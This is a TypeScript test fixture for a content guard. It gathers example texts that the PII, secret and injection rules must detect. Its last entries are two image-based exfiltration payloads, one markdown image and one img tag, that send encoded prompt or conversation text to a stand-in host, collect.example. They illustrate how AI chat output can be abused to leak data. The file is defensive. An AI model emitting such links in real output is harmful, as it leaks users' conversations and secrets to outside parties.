/** Texts that each rule must see, from the tables of the rules and of their tests. */
import { PII_ROWS } from '../../src/guard/rules/pii/pii.ts';
import { SECRET_EXAMPLES } from './rules/secrets/examples.ts';

/** What a rule is to see, and what it needs around it. */
export interface Example {
  readonly id: string;
  readonly before: string;
  readonly value: string;
  readonly after?: string;
}

export const EXAMPLES: readonly Example[] = [
  ...PII_ROWS.flatMap(({ id, lead = '', examples }) => examples.map((value) => ({ id, before: lead, value }))),
  ...Object.entries(SECRET_EXAMPLES).flatMap(([id, examples]) =>
    examples.map(([before, value]) => ({
      id: `secrets.${id}`,
      before,
      value,
      // A password in an address is one only if a host follows.
      ...(id === 'connection_string' ? { after: '@db.internal/app' } : {}),
    })),
  ),
  {
    id: 'injection.image_with_data',
    before: '',
    value: '![chart](https://collect.example/p.png?data=c2VjcmV0LXByb21wdA)',
  },
  { id: 'injection.image_with_data', before: '', value: '<img src="//collect.example/?q=whatever+was+said+here' },
];

export const textOf = ({ before, value, after = '' }: Example): string => before + value + after;

export const TEXTS: readonly string[] = EXAMPLES.map(textOf);
